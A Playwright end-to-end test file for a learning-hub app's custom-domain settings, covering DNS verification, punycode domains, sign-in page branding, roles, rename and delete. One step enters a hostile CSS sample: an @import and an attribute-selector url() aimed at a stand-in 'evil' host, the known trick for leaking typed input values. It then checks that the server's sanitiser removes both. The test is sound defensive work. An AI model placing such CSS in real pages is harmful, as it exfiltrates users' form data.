/**
 * Settings → Domain as an Owner uses it: add a domain (the format rule first), read the
 * connection instructions, create the records at "their DNS provider" (a real DNS server this
 * journey runs, which the e2e server asks: start-e2e.mjs), check it, and open the hub at that
 * domain in Chromium (its host resolver maps the test hosts to this machine). Then rename and
 * delete. An unknown host gets the "not connected" page.
 */
import { domainToASCII } from 'node:url';
import { startDnsServer, type TestDnsServer } from '../../server/src/test/dns-server';
import { gql, signInToken } from './support/accounts';
import { expectNoSeriousA11yViolations } from './support/axe';
import { makePng } from './support/png';
import { expect, test } from './support/test';

const PORT = Number(process.env.E2E_PORT ?? 4100);
const DOMAIN = `learn-${Date.now()}.e2e-domains.test`;
let dns: TestDnsServer;

test.beforeAll(async () => {
  dns = await startDnsServer({ 'app.learnhub-e2e.test': { A: ['127.0.0.1'] } }, PORT);
});
test.afterAll(async () => dns?.close());

test('domains: add with the format rule, follow the instructions, verify by DNS, open the hub there, rename, delete', async ({ page, request }) => {
  test.setTimeout(90_000);
  const token = await signInToken(request, 'owner@demo.learnhub.test', 'demo-password-1');
  await page.goto('/favicon.ico');
  await page.evaluate((t) => localStorage.setItem('auth_token', t), token);
  await page.setViewportSize({ width: 1366, height: 900 });

  await page.goto('/demo/settings/team');
  await page.getByRole('navigation', { name: 'Settings' }).getByRole('link', { name: 'Domain' }).click();
  await expect(page).toHaveURL(/\/demo\/settings\/domain$/);
  await expect(page.getByRole('heading', { name: 'Custom domains' })).toBeVisible();
  await expectNoSeriousA11yViolations(page);

  // The modal: the spec's format rule, Connect disabled until the input is a domain.
  await page.getByRole('button', { name: 'Add domain' }).click();
  const dialog = page.getByRole('dialog', { name: 'Add a domain' });
  const input = dialog.getByRole('textbox', { name: 'Domain' });
  const connect = dialog.getByRole('button', { name: 'Connect' });
  await expect(connect).toBeDisabled();
  await input.fill(`https://${DOMAIN}`);
  await expect(dialog.getByText('The subdomain / domain should have the format learn.yourcompany.com / yourcompany.com')).toBeVisible();
  await expect(connect).toBeDisabled();
  await input.fill(`www.${DOMAIN}`);
  await expect(connect).toBeDisabled();
  await input.fill(DOMAIN);
  await expect(connect).toBeEnabled();
  await expectNoSeriousA11yViolations(page);
  await connect.click();
  await expect(page.getByText('Domain added. Create the DNS records below, then check it.')).toBeVisible();
  await expect(dialog).toBeHidden();

  // The card: pending, with the records to create.
  const card = page.getByRole('article', { name: DOMAIN });
  await expect(card.getByText('Pending', { exact: true })).toBeVisible();
  await expect(card.getByText(/Not checked yet\. Next automatic check in (1 minute|less than a minute)\./)).toBeVisible();
  const records = card.getByRole('table', { name: `DNS records for ${DOMAIN}` });
  await expect(records.getByRole('row')).toHaveCount(4);
  const row = (type: string) => records.getByRole('row').filter({ has: page.getByRole('cell', { name: type, exact: true }) });
  await expect(row('CNAME')).toContainText('app.learnhub-e2e.test');
  await expect(row('A')).toContainText('127.0.0.1');
  const txtRow = row('TXT');
  await expect(txtRow).toContainText(`_learnhub-verification.${DOMAIN}`);
  const txtValue = (await txtRow.getByRole('cell').nth(2).locator('span').first().textContent())?.trim() ?? '';
  expect(txtValue).toMatch(/^learnhub-verification=[0-9a-f]{32}$/);
  await expectNoSeriousA11yViolations(page);

  // Check before the records exist: still pending, and the card says what is missing.
  await card.getByRole('button', { name: `Check now ${DOMAIN}` }).click();
  await expect(page.getByText(`${DOMAIN} is not verified yet.`)).toBeVisible();
  await expect(card.getByText(/^The last check found (a problem|[2-9] problems):$/)).toBeVisible();
  await expect(card.getByText(`TXT record _learnhub-verification.${DOMAIN} with the value ${txtValue} was not found.`)).toBeVisible();
  await expect(card.getByText(/Last checked just now\./)).toBeVisible();

  // "At the DNS provider": the CNAME and the TXT record, as the instructions say.
  dns.zone.set(DOMAIN, { CNAME: 'app.learnhub-e2e.test' });
  dns.zone.set(`_learnhub-verification.${DOMAIN}`, { TXT: [txtValue] });
  await card.getByRole('button', { name: `Check now ${DOMAIN}` }).click();
  await expect(page.getByText(`${DOMAIN} is verified.`)).toBeVisible();
  await expect(card.getByText('Verified', { exact: true })).toBeVisible();
  await expect(card.getByText(/^The last check found/)).toBeHidden();
  await page.screenshot({ path: '/tmp/shots/domains-wide.png', fullPage: true });
  await expectNoSeriousA11yViolations(page);

  // The hub at the company's own address.
  const hub = await page.context().newPage();
  await hub.goto(`http://${DOMAIN}:${PORT}/`);
  await expect(hub).toHaveURL(`http://${DOMAIN}:${PORT}/demo`);
  await expect(hub.getByRole('heading', { level: 1, name: 'Demo Co' })).toBeVisible();
  await hub.screenshot({ path: '/tmp/shots/domains-hub.png' });
  // Another company's address is not served on this domain; an unknown host says it is not connected.
  const elsewhere = await hub.goto(`http://${DOMAIN}:${PORT}/some-other-company`);
  expect(elsewhere?.status()).toBe(404);
  await expect(hub.getByRole('heading', { name: 'Page not found' })).toBeVisible();
  const unknown = await hub.goto(`http://nobody.e2e-domains.test:${PORT}/`);
  expect(unknown?.status()).toBe(404);
  await expect(hub.getByRole('heading', { name: 'This domain is not connected' })).toBeVisible();
  await expectNoSeriousA11yViolations(hub);
  await hub.close();

  // Its sign-in page design: brand, content and custom CSS (with an @import the server removes).
  await card.getByRole('link', { name: `Sign-in design of ${DOMAIN}` }).click();
  await expect(page.getByRole('heading', { name: `${DOMAIN} Sign In Experience Design` })).toBeVisible();
  await expect(page.getByRole('tab', { name: 'Sign In Experience' })).toHaveAttribute('aria-selected', 'true');
  await page.getByRole('textbox', { name: 'Company name' }).fill('Typed then cancelled');
  await page.getByRole('button', { name: 'Cancel' }).click();
  await expect(page.getByRole('textbox', { name: 'Company name' })).toHaveValue('');
  await page.getByRole('textbox', { name: 'Company name' }).fill('Demo Academy');
  await page.locator('.logo-drop input[type=file]').setInputFiles({ name: 'logo.png', mimeType: 'image/png', buffer: makePng(40, 20, [14, 124, 116]) });
  await expect(page.getByRole('img', { name: 'Company logo' })).toBeVisible();
  await expect(page.getByText('SVG, PNG, JPG or GIF (max 400*800px)')).toBeVisible();
  await page.getByRole('textbox', { name: 'Heading text' }).fill('Welcome to Demo Academy');
  await page.getByRole('textbox', { name: 'Sub headline' }).fill('Type your work e-mail and we will send you a sign-in link.');
  await page
    .getByRole('textbox', { name: 'Custom CSS' })
    .fill(
      '@import url("https://evil.e2e-domains.test/x.css");\nh1 { color: rgb(200, 0, 0); }\ninput[value^="a"] { background: url(https://evil.e2e-domains.test/a) }',
    );
  await page.getByRole('button', { name: 'Save Changes' }).click();
  await expect(page.getByText('Sign-in design saved.')).toBeVisible();
  const removedList = page.getByRole('status').filter({ hasText: 'Removed from your CSS when it was saved:' });
  await expect(removedList).toContainText('@import loads another stylesheet');
  await expect(removedList).toContainText('url() may only hold an inline PNG');
  await expect(page.getByRole('textbox', { name: 'Custom CSS' })).toHaveValue('.signin-design h1 { color: rgb(200, 0, 0); }');
  // The saved logo replaces the picked file's preview.
  await expect(page.getByRole('img', { name: 'Company logo' })).toHaveAttribute('src', /^\/uploads\//);
  await expect(page.getByRole('img', { name: 'Company logo' })).toHaveJSProperty('complete', true);
  await page.screenshot({ path: '/tmp/shots/design-wide.png', fullPage: true });
  await expectNoSeriousA11yViolations(page);

  // The spec's second address for the same page.
  const designUrl = page.url();
  await page.goto(designUrl.replace(/\/settings\/domain\/([^/]+)\/domainConfiguration$/, '/domains/$1/domain_page_configuration'));
  await expect(page).toHaveURL(designUrl);

  // The magic-link page on that domain wears the design; on the app's own address it does not.
  const signIn = await page.context().newPage();
  await signIn.goto(`http://${DOMAIN}:${PORT}/demo/passwordless_sign_in`);
  await expect(signIn.getByRole('heading', { level: 1, name: 'Welcome to Demo Academy' })).toBeVisible();
  await expect(signIn.getByText('Type your work e-mail and we will send you a sign-in link.')).toBeVisible();
  await expect(signIn.getByText('Demo Academy', { exact: true })).toBeVisible();
  await expect(signIn.getByRole('img', { name: 'Demo Academy logo' })).toBeVisible();
  await expect(signIn.getByRole('heading', { level: 1 })).toHaveCSS('color', 'rgb(200, 0, 0)');
  await signIn.screenshot({ path: '/tmp/shots/design-signin.png' });
  await expectNoSeriousA11yViolations(signIn);
  await signIn.goto('/demo/passwordless_sign_in');
  await expect(signIn.getByRole('heading', { level: 1, name: 'Looks like you need a new link' })).toBeVisible();
  await signIn.close();
  await page.goto('/demo/settings/domain');

  // Rename: pending again. Then delete, with the spec's question.
  await card.getByRole('button', { name: `Edit ${DOMAIN}` }).click();
  const edit = page.getByRole('dialog', { name: 'Edit domain' });
  const renamed = `docs-${DOMAIN}`;
  await edit.getByRole('textbox', { name: 'Domain' }).fill(renamed);
  await edit.getByRole('button', { name: 'Connect' }).click();
  await expect(page.getByText('Domain updated. Create the DNS records below, then check it.')).toBeVisible();
  const renamedCard = page.getByRole('article', { name: renamed });
  await expect(renamedCard.getByText('Pending', { exact: true })).toBeVisible();

  await renamedCard.getByRole('button', { name: `Delete ${renamed}` }).click();
  const confirm = page.getByRole('dialog', { name: 'Delete domain' });
  await expect(confirm).toContainText(`Are you sure you want to delete this domain: ${renamed}?`);
  await confirm.getByRole('button', { name: 'Yes' }).click();
  await expect(page.getByText('Domain deleted successfully.')).toBeVisible();
  await expect(renamedCard).toBeHidden();
  await expect(page.getByText('No domains yet. Add one to give your hub your own address.')).toBeVisible();

  // A phone: the card and its records fit the width (opened at that width, as a phone would).
  await page.setViewportSize({ width: 390, height: 844 });
  await page.reload();
  await page.getByRole('button', { name: 'Add domain' }).click();
  await page.getByRole('dialog', { name: 'Add a domain' }).getByRole('textbox', { name: 'Domain' }).fill(DOMAIN);
  await page.getByRole('dialog', { name: 'Add a domain' }).getByRole('button', { name: 'Connect' }).click();
  await expect(page.getByRole('article', { name: DOMAIN })).toBeVisible();
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  expect(overflow).toBeLessThanOrEqual(0);
  await page.screenshot({ path: '/tmp/shots/domains-phone.png', fullPage: true });
  await expectNoSeriousA11yViolations(page);
});

test('domains: a View Only member reads the list but cannot change it', async ({ page, request }) => {
  const owner = await signInToken(request, 'owner@demo.learnhub.test', 'demo-password-1');
  const shown = `viewer-${Date.now()}.e2e-domains.test`;
  await gql(request, owner, 'mutation ($n: String!) { addDomain(input: { domainName: $n }) { __typename } }', { n: shown });
  const token = await signInToken(request, 'viewer@demo.learnhub.test', 'demo-password-1');
  await page.goto('/favicon.ico');
  await page.evaluate((t) => localStorage.setItem('auth_token', t), token);
  await page.goto('/demo/settings/domain');
  await expect(page.getByText('Only Owners and Team Admins can add, change or check domains.')).toBeVisible();
  await expect(page.getByRole('button', { name: 'Add domain' })).toHaveCount(0);
  await expect(page.getByRole('article', { name: shown })).toBeVisible();
  await expect(page.getByRole('button', { name: /^Check now/ })).toHaveCount(0);
  await expectNoSeriousA11yViolations(page);
});

test('domains: an internationalised name is accepted, read in Unicode, checked and served by its punycode', async ({ page, request }) => {
  test.setTimeout(60_000);
  const label = `lærning-${Date.now()}`;
  const unicode = `${label}.e2e-domains.test`;
  // "lærning-<n>" in punycode: the ASCII letters, "-", then the encoded "æ" (RFC 3492).
  const ascii = domainToASCII(unicode);
  expect(ascii).toMatch(/^xn--lrning-\d+-[a-z0-9]+\.e2e-domains\.test$/);
  const token = await signInToken(request, 'owner@demo.learnhub.test', 'demo-password-1');
  await page.goto('/favicon.ico');
  await page.evaluate((t) => localStorage.setItem('auth_token', t), token);
  await page.setViewportSize({ width: 1366, height: 900 });
  await page.goto('/demo/settings/domain');

  await page.getByRole('button', { name: 'Add domain' }).click();
  const dialog = page.getByRole('dialog', { name: 'Add a domain' });
  const input = dialog.getByRole('textbox', { name: 'Domain' });
  // A hyphen at a label's edge is refused in Unicode as in ASCII.
  await input.fill(`-${unicode}`);
  await expect(dialog.getByText('The subdomain / domain should have the format learn.yourcompany.com / yourcompany.com')).toBeVisible();
  await input.fill(unicode);
  await expect(dialog.getByRole('button', { name: 'Connect' })).toBeEnabled();
  await dialog.getByRole('button', { name: 'Connect' }).click();
  await expect(page.getByText('Domain added. Create the DNS records below, then check it.')).toBeVisible();

  // The card reads in Unicode and names the punycode the DNS records are for.
  const card = page.getByRole('article', { name: unicode });
  await expect(card.getByRole('heading', { name: unicode })).toBeVisible();
  await expect(card.getByText(`In DNS: ${ascii}`)).toBeVisible();
  const records = card.getByRole('table', { name: `DNS records for ${ascii}` });
  const txtRow = records.getByRole('row').filter({ has: page.getByRole('cell', { name: 'TXT', exact: true }) });
  await expect(txtRow).toContainText(`_learnhub-verification.${ascii}`);
  const txtValue = (await txtRow.getByRole('cell').nth(2).locator('span').first().textContent())?.trim() ?? '';
  await expectNoSeriousA11yViolations(page);

  dns.zone.set(ascii, { CNAME: 'app.learnhub-e2e.test' });
  dns.zone.set(`_learnhub-verification.${ascii}`, { TXT: [txtValue] });
  await card.getByRole('button', { name: `Check now ${unicode}` }).click();
  await expect(page.getByText(`${unicode} is verified.`)).toBeVisible();
  await page.screenshot({ path: '/tmp/shots/domains-idn.png', fullPage: true });

  // Chromium sends the punycode host: the hub is served at the Unicode address.
  const hub = await page.context().newPage();
  await hub.goto(`http://${unicode}:${PORT}/`);
  await expect(hub).toHaveURL(`http://${ascii}:${PORT}/demo`);
  await expect(hub.getByRole('heading', { level: 1, name: 'Demo Co' })).toBeVisible();
  await hub.close();

  // Its sign-in design page is headed in Unicode too.
  await card.getByRole('link', { name: `Sign-in design of ${unicode}` }).click();
  await expect(page.getByRole('heading', { name: `${unicode} Sign In Experience Design` })).toBeVisible();
  await page.getByRole('link', { name: '← Domains' }).click();

  // Edit offers the Unicode form; delete names it.
  await card.getByRole('button', { name: `Edit ${unicode}` }).click();
  const edit = page.getByRole('dialog', { name: 'Edit domain' });
  await expect(edit.getByRole('textbox', { name: 'Domain' })).toHaveValue(unicode);
  await edit.getByRole('button', { name: 'Cancel' }).click();
  await card.getByRole('button', { name: `Delete ${unicode}` }).click();
  const confirm = page.getByRole('dialog', { name: 'Delete domain' });
  await expect(confirm).toContainText(`Are you sure you want to delete this domain: ${unicode}?`);
  await confirm.getByRole('button', { name: 'Yes' }).click();
  await expect(card).toBeHidden();
});
